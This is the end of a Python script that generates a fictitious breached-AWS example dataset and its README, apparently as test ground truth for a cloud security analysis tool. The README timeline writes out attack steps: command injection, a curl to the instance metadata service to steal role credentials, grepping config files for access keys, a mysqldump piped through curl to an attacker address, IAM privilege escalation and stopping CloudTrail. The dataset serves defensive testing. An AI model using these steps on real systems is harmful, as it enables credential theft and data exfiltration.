        ("Lambda function", f"`{FUNCTION_ARN}`", "invoked by S3 events from acme-web-assets"),
    ], ("what", "id / ARN", "details"))
    attacker = table([
        ("attacker address 1 (web exploit, stolen instance credentials)", f"`{ATTACKER_WEB_IP}`"),
        ("attacker address 2 (batch-job key, developer-role, svc-backup, database upload)", f"`{ATTACKER_VPS_IP}`"),
        ("attacker CLI user agent (then ` command/<service>.<operation>`)", f"`{ATTACKER_CLI_UA}`"),
        ("stolen web-1 instance credentials, issued 2026-03-12 08:52:17 to session "
         f"`{INSTANCE_ID['web-1']}`", f"`{STOLEN_KEY}`"),
        ("hard-coded key of batch-job, read from /var/www/html/config/batch.ini", f"`{ACCESS_KEY['batch-job']}`"),
        (f"developer-role session `{DEV_SESSION}` (assumed by batch-job)", f"`{DEV_KEY}`"),
        ("access key the attacker created for svc-backup", f"`{ACCESS_KEY['svc-backup']}`"),
        ("vulnerable page (command injection in `host=`)", f"`https://{ALB_DNS}{VULN}`"),
        ("exfiltration, S3", f"{len(exfil)} GetObject of s3://{DATA_BUCKET} as svc-backup, {exfil_bytes:,} bytes, "
                             f"{t(exfil[0]['eventTime'])} to {t(exfil[-1]['eventTime'])}"),
        ("exfiltration, database", f"prod-db -> web-1 187,301,442 bytes, then web-1 -> NAT -> {ATTACKER_VPS_IP}:443 "
                                   f"43,120,775 bytes, {t(ct_ts(DUMP_START))} to {t(ct_ts(DUMP_END))}"),
    ], ("indicator", "value"))
    snapshot_files = sorted(r for r in tree.files if not r.startswith("logs/") and r != "README.md")
    size = lambda pref: sum(len(d) for r, d in tree.files.items() if r.startswith(pref))
    return f"""# incident-3tier: a breached three-tier web system

A bundled example for keyaki: one AWS account ({ACCOUNT}, {REGION}, member of organisation {ORG_ID}) that runs a
classic web shop and was breached on 2026-03-12. It holds

- a **snapshot** taken on 2026-03-14 12:00:00 UTC in keyaki's CLI-dir layout: {len(snapshot_files)} files, each the
  unmodified output of one AWS CLI v2 command (`--output json`), and the decoded IAM credential report;
- the **logs**, as AWS delivers them to S3:
  - CloudTrail, 2026-03-12 00:00 to 2026-03-14 00:00 UTC: {len(recs)} records in {counts['cloudtrail'] - 1} files, and one
    digest file;
  - VPC Flow Logs, 2026-03-12 08:00 to 2026-03-13 11:00 UTC: {flow_lines} records in {counts['vpcflow']} files;
  - Application Load Balancer access logs, same window: {alb_lines} entries in {counts['alb']} files;
  - the nginx access logs of web-1 and web-2, same window: {nginx_lines['web-1']} and {nginx_lines['web-2']} lines.

Everything here is generated by `scripts/gen_incident_example.py` and is fictitious: the account, the people and
the addresses are made up (documentation address ranges for the office and the attacker). Use it to try keyaki,
and as ground truth in tests: every identifier below is in the files, and the files agree with each other.

## The system

```
internet
  |  internet gateway {IGW_ID}
  v
public subnets 10.0.0.0/24 (us-east-1a), 10.0.1.0/24 (us-east-1b)
    web-alb            HTTPS 443 -> web-tg; HTTP 80 -> redirect to HTTPS
    bastion            {INSTANCES['bastion']['ip']}, EIP {EIP['bastion'][0]}, SSH open to the world
    NAT gateway        {NAT_PRIVATE_IP}, EIP {EIP['nat'][0]}
  |  HTTP 80 (web-sg admits only web-alb-sg)
  v
app subnets 10.0.10.0/24 (us-east-1a), 10.0.11.0/24 (us-east-1b); default route via the NAT gateway,
S3 via the gateway endpoint
    web-1              {INSTANCES['web-1']['ip']}, nginx + PHP, IMDSv1 allowed, debug-sg (8080 from anywhere)
    web-2              {INSTANCES['web-2']['ip']}, nginx + PHP, IMDSv1 allowed
  |  MySQL 3306 (db-sg admits only web-sg; the db network ACL admits 3306 from the app subnets
  |  by rules 100/110, but its rule 120, tcp 1024-65535 from the whole VPC, admits it from the bastion too)
  v
db subnets 10.0.20.0/24 (us-east-1a), 10.0.21.0/24 (us-east-1b); main route table, local only
    prod-db            {RDS_IP}, RDS MySQL, not public, encrypted with alias/prod-rds
```

The web application reads its database password from Secrets Manager (`{SECRET_NAME}`) with the instance role
`web-server-role`. A batch job on web-1 reads order files from `s3://{DATA_BUCKET}` every 30 minutes with the
long-lived access key of the IAM user `batch-job`, which is hard-coded in the application's configuration.
alice administers the account (console with MFA), bob is a developer (CLI), `ci-deploy` publishes the
`thumbnailer` function. CloudTrail (`{TRAIL}`), AWS Config, GuardDuty and Security Hub are on.

## What happened (UTC)

| time | what | where to see it |
|---|---|---|
| 03-12 08:31:12 | alice signs in to the console with MFA from the office ({ALICE_IP}) | CloudTrail |
| 03-12 08:52:17 | EC2 renews web-1's instance-profile credentials: `{STOLEN_KEY}` | CloudTrail (AssumeRole by ec2.amazonaws.com) |
| 03-12 08:58:40 | {ATTACKER_WEB_IP} scans the bastion's ports: all rejected but SSH | flow logs |
| 03-12 09:02:11 | {ATTACKER_WEB_IP} scans the web site for files ({len(SCAN_PATHS)} requests, `{SCANNER_UA}`) and finds `{VULN}` | ALB, nginx |
| 03-12 09:07:58 | command injection in `{VULN}?host=` (`;id`) answered by web-1 | ALB, nginx |
| 03-12 09:08:31 | the injected `curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web-server-role` returns web-1's role credentials (IMDSv1); the metadata request itself is in no log | ALB, nginx |
| 03-12 09:14:03 | the stolen credentials are used from {ATTACKER_WEB_IP}: GetCallerIdentity, then reconnaissance (IAM lists, GetAccountAuthorizationDetails, EC2 describes) with AccessDenied on S3 ListBuckets, GetObject, Organizations, GuardDuty, CloudTrail, ListSecrets, CreateUser, AttachRolePolicy | CloudTrail |
| 03-12 09:20:22 | GetSecretValue `{SECRET_NAME}` with the stolen credentials | CloudTrail |
| 03-12 09:27:40 | injected `grep -rn AKIA /var/www/` and `cat .../config/batch.ini`: the batch-job access key | ALB, nginx |
| 03-12 09:31:10 | `{ACCESS_KEY['batch-job']}` (batch-job) used from {ATTACKER_VPS_IP}; lists and reads the customer data bucket | CloudTrail |
| 03-12 09:33:02 | batch-job assumes `developer-role` (session `{DEV_SESSION}`), allowed without MFA by the trust policy statement `NightlyReportJob` | CloudTrail |
| 03-12 09:36:48 | CreatePolicyVersion on `developer-policy`: v2 = Allow `*` on `*`, SetAsDefault true. developer-role is now administrator | CloudTrail, snapshot (both versions) |
| 03-12 09:38:05 | persistence: CreateUser `svc-backup`, CreateAccessKey `{ACCESS_KEY['svc-backup']}`, AttachUserPolicy AdministratorAccess, CreateLoginProfile | CloudTrail, snapshot, credential report |
| 03-12 {exfil[0]['eventTime'][11:19]} | exfiltration: svc-backup downloads {len(exfil)} objects ({exfil_bytes:,} bytes) of `{DATA_BUCKET}` from {ATTACKER_VPS_IP} until {exfil[-1]['eventTime'][11:19]} | CloudTrail S3 data events |
| 03-12 10:05:08 | injected `mysqldump ... \\| gzip \\| curl -T - https://{ATTACKER_VPS_IP}/u`: 187 MB from prod-db to web-1, 43 MB out through the NAT gateway until 10:09:41 | ALB, nginx, flow logs (web-1, prod-db and NAT interfaces) |
| 03-12 10:12:30 | DeleteDetector on GuardDuty, denied by the SCP `deny-leave-org` | CloudTrail |
| 03-12 10:13:05 | StopLogging on `{TRAIL}`: the trail records nothing until 03-13 09:15:40 | CloudTrail, get-trail-status, digest |
| 03-12 11:02:44 | svc-backup signs in to the console (not in CloudTrail: logging was stopped) | credential report |
| 03-13 02:17 | svc-backup's access key last used, S3 (not in CloudTrail) | credential report |
| 03-13 09:02:15 | alice signs in; 09:15:40 StartLogging; she looks at the trail, svc-backup and developer-policy | CloudTrail |
| 03-13 10:05:12 | the root user signs in with MFA and sets the security contact | CloudTrail |
| 03-14 12:00:00 | snapshot taken by alice (account.json); nothing has been cleaned up yet | snapshot |

Background activity runs through it all: about {len(reqs) - len(attack_reqs)} shoppers' requests, ALB health checks, the
web servers talking to prod-db, the batch job every 30 minutes (S3 through the gateway endpoint, so CloudTrail shows
web-1's private address {INSTANCES['web-1']['ip']} and `vpcEndpointId`), the web servers reading the secret through the NAT
gateway (source {EIP['nat'][0]}), {len(renewals)} credential renewals by ec2.amazonaws.com, AWS Config, CloudTrail's own
bucket checks, bob's and ci-deploy's work, a KMS key rotation, and internet noise against the bastion.

## Ground truth

Account {ACCOUNT} ("acme-prod"), organisation {ORG_ID}, management account {MGMT_ACCOUNT}, sandbox account
{SANDBOX_ACCOUNT}. The partner account {PARTNER_ACCOUNT} is outside the organisation.

### Attack indicators

{attacker}

### Network

{network}

### Hosts and interfaces

{hosts}

### IAM

{principals}

### Other resources

{resources}

### What is wrong (what keyaki should find)

1. web-1 and web-2 allow IMDSv1 (`MetadataOptions.HttpTokens` = `optional`); the role credentials were stolen
   through it.
2. `web-server-role` may `ec2:Describe*`, `iam:List*` and `iam:Get*` on everything: enough to map the account.
3. The IAM user `batch-job` has a long-lived access key (created 2024-09-18, never rotated) stored on the web
   servers.
4. The trust policy of `developer-role` lets `batch-job` assume it without MFA (statement `NightlyReportJob`).
5. `developer-policy` allows `iam:CreatePolicyVersion` on itself: whoever holds developer-role can make
   themselves administrator. batch-job -> developer-role -> administrator is the escalation path. bob's group may
   assume developer-role too, but for him the trust policy requires MFA, and he has none.
6. `{DATA_BUCKET}`'s bucket policy grants `s3:GetObject` and `s3:ListBucket` to `arn:aws:iam::{PARTNER_ACCOUNT}:root`
   (Sid `TempPartnerAccess`), an account outside the organisation. Its versioning and access logging are off.
7. `bastion-sg` allows SSH from 0.0.0.0/0 and ::/0 (next to the office prefix list).
8. `debug-sg` ("temp test - remove") allows TCP 8080 from 0.0.0.0/0 on web-1. web-1 is in a private subnet with no
   public address, and the load balancer only forwards port 80, so the internet cannot reach it: an exposure
   engine should report the rule but no path.
9. EBS encryption by default is off and the bastion's root volume is unencrypted.
10. The customer managed key `alias/prod-rds` has rotation off.
11. The account-level S3 Block Public Access leaves `BlockPublicPolicy` and `RestrictPublicBuckets` off.
12. bob has a console password without MFA and an access key from 2024-03-11; ci-deploy has a console password it
    never used (`no_information`) and two active keys. ci-deploy's policy allows `iam:PassRole`, but its
    permissions boundary `ci-deploy-boundary` does not, so it cannot.
13. The password policy has no reuse prevention and a minimum length of 12.
14. The SCP protects GuardDuty, Security Hub and Config but not CloudTrail, so `StopLogging` worked.
15. After the incident: `svc-backup` is an administrator with a password and an access key, and
    `developer-policy` v2 (Allow `*` on `*`) is the default version.

Expected escalation path: `user/batch-job` -sts:AssumeRole-> `role/developer-role` -iam:CreatePolicyVersion on
`policy/developer-policy`-> administrator. Expected internet exposure: web-alb 80/443 -> web-1, web-2 port 80 ->
prod-db 3306; bastion port 22.

## Files

The snapshot ({len(snapshot_files)} files, {size('account.json') + size('global/') + size(REGION + '/'):,} bytes). Folders below a
service hold the output of commands that act on one resource, named after it with `/` written `%2F` and `:` written
`%3A`:

```
{chr(10).join(snapshot_files)}
```

The logs ({size('logs/'):,} bytes), in the layout AWS delivers them to S3:

```
logs/cloudtrail/AWSLogs/{ACCOUNT}/CloudTrail/{REGION}/2026/03/1{{2,3}}/{ACCOUNT}_CloudTrail_{REGION}_<YYYYMMDDTHHmmZ>_<16 chars>.json.gz
logs/cloudtrail/AWSLogs/{ACCOUNT}/CloudTrail-Digest/{REGION}/2026/03/12/{ACCOUNT}_CloudTrail-Digest_{REGION}_{TRAIL}_{REGION}_20260312T102031Z.json.gz
logs/vpcflow/AWSLogs/{ACCOUNT}/vpcflowlogs/{REGION}/2026/03/1{{2,3}}/{ACCOUNT}_vpcflowlogs_{REGION}_{FLOW_LOG_ID}_<YYYYMMDDTHHmmZ>_<8 hex>.log.gz
logs/alb/AWSLogs/{ACCOUNT}/elasticloadbalancing/{REGION}/2026/03/1{{2,3}}/{ACCOUNT}_elasticloadbalancing_{REGION}_app.{ALB_NAME}.{ALB_ID}_<YYYYMMDDTHHmmZ>_<node IP>_<8 chars>.log.gz
logs/nginx/web-1/access.log, logs/nginx/web-2/access.log
```

Notes on the formats:

- JSON files are what `aws <service> <command> --output json` prints with AWS CLI v2 (4-space indent, keys in the
  order of the service model, timestamps as ISO 8601 with `+00:00`, pagination tokens removed). IAM policy
  documents inside `get-account-authorization-details.json` are objects (the CLI decodes them); bucket, key,
  function, secret, topic and queue policies are JSON strings, as the services return them.
- `credential-report.csv` is the `Content` of `aws iam get-credential-report`, base64-decoded (22 columns, the root
  user first, no final newline).
- A command that fails has no file: `{ASSETS_BUCKET}` has no bucket policy (`NoSuchBucketPolicy`).
- A command whose answer is empty is written as `{{}}` (`get-bucket-versioning` and `get-bucket-logging` of buckets
  without that setting, `get-bucket-notification-configuration`); `get-bucket-lifecycle-configuration` of a bucket
  without rules fails with `NoSuchLifecycleConfiguration`, and `scripts/snapshot.sh` writes `{{}}` for it too. The AWS CLI itself prints nothing for an empty answer, so a snapshot made with
  `aws ... > file` has an empty file there; a loader should accept both.
- AWS managed policies (`AdministratorAccess`, `ReadOnlyAccess` v178, the service-linked role policies) carry their
  real documents at the version and date given; statement keys are written in the order Sid, Effect, Principal,
  Action, Resource, Condition. The entries of the S3 prefix list `pl-63a5400a` are a subset of the real list.
- Beyond the recommended layout the snapshot has `kms/list-aliases.json` (the `aws/s3` alias and the others) and
  the entries of the S3 prefix list that the private route table uses.
- CloudTrail files are `{{"Records": [...]}}`, sorted by time within each file (CloudTrail itself does not promise
  that). The digest's `hashValue`s are the SHA-256 of the log files here; its signature is not a real one.
- ALB entries have every documented field in order, including `classification`, `classification_reason`,
  `conn_trace_id` and the newer `transformed_host`, `transformed_uri`, `request_transform_status`. ALB health checks
  are not in ALB logs; nginx does not log them either (`access_log off` for `/health`), so the nginx logs hold
  exactly the requests the ALB forwarded, each within the same second and with the ALB node's private address as
  the client.
- Flow logs use the default version-2 format with its header line and a 10-minute aggregation interval; each
  file holds the records of one interval. As on AWS, traffic to the instance metadata service (169.254.169.254), the Amazon DNS server and
  the time service is not recorded; intervals without traffic on the NAT gateway are `NODATA`, and one interval
  on an ALB node is `SKIPDATA`.

## Regenerate and check

```
python3 scripts/gen_incident_example.py           # rewrite examples/incident-3tier
python3 scripts/gen_incident_example.py --check   # compare with the committed files, exit 1 on a difference
```

The generator uses only the Python 3.11 standard library and is deterministic (fixed seeds, fixed times, gzip
members with mtime 0 and no name). Both commands also check that the files agree with each other: every
subnet, security group, interface, instance, volume, key, bucket, role and policy referenced anywhere exists;
every role session in CloudTrail matches its role in IAM and every temporary key was issued by a recorded
AssumeRole (or before the first record, or while the trail was stopped); nothing is recorded while the trail was stopped; the digest's hashes
match; every flow log record is on a known interface and never shows instance metadata traffic; every ALB entry
targets a registered instance and matches one nginx line.
"""


# ---------------------------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------------------------
def build() -> Tree:
    tree = Tree()
    account_snapshot(tree)
    iam_snapshot(tree)
    organizations_snapshot(tree)
    s3_snapshot(tree)
    ec2_snapshot(tree)
    elbv2_snapshot(tree)
    rds_snapshot(tree)
    lambda_snapshot(tree)
    detection_snapshot(tree)
    messaging_snapshot(tree)
    kms_snapshot(tree)
    trail = Trail()
    cloudtrail_log(trail)
    ct_files = deliver_cloudtrail(tree, trail)
    cloudtrail_digest(tree, ct_files)
    cloudtrail_snapshot(tree, latest_delivery=utc(2026, 3, 14, 11, 57, 31, 142000))
    reqs = web_requests()
    write_web_logs(tree, reqs)
    write_flow_logs(tree, flow_records(reqs, trail))
    tree.text("README.md", readme(tree, trail, reqs))
    return tree


def write_tree(tree: Tree, dest: Path) -> None:
    if dest.exists() and any(dest.iterdir()):
        readme_path = dest / "README.md"
        if not (readme_path.is_file() and readme_path.read_text().startswith("# incident-3tier")):
            raise SystemExit(f"{dest}: exists and is not an incident-3tier example; not overwriting it")
        shutil.rmtree(dest)
    for rel in sorted(tree.files):
        p = dest / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(tree.files[rel])


def read_tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def differences(new: dict[str, bytes], old: dict[str, bytes]) -> list[str]:
    out = []
    for rel in sorted(set(new) | set(old)):
        if rel not in old:
            out.append(f"missing: {rel}")
        elif rel not in new:
            out.append(f"not generated: {rel}")
        elif new[rel] != old[rel]:
            # a different zlib may compress differently: compare the content of gzip files
            if not (rel.endswith(".gz") and gunzip(new[rel]) == gunzip(old[rel])):
                out.append(f"differs: {rel}")
    return out


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--check", action="store_true", help="regenerate into a temp dir and compare with the committed tree")
    ap.add_argument("--out", type=Path, default=OUT, help="where to write (default: examples/incident-3tier)")
    args = ap.parse_args()
    tree = build()
    if args.check:
        with tempfile.TemporaryDirectory(prefix="incident-3tier-") as tmp:
            write_tree(tree, Path(tmp) / "incident-3tier")
            fresh = read_tree(Path(tmp) / "incident-3tier")
        committed = read_tree(args.out) if args.out.is_dir() else {}
        problems = differences(fresh, committed)
        problems += [f"inconsistent: {e}" for e in check_consistency(committed)] if committed else []
        for p in problems:
            print(p)
        if problems:
            print(f"{args.out}: {len(problems)} problem(s); run scripts/gen_incident_example.py to regenerate", file=sys.stderr)
            return 1
        print(f"{args.out}: {len(committed)} files match the generator and are consistent")
        return 0
    errs = check_consistency(tree.files)
    if errs:
        for e in errs:
            print(f"inconsistent: {e}")
        return 1
    write_tree(tree, args.out)
    total = sum(len(d) for d in tree.files.values())
    print(f"wrote {len(tree.files)} files, {total:,} bytes, to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
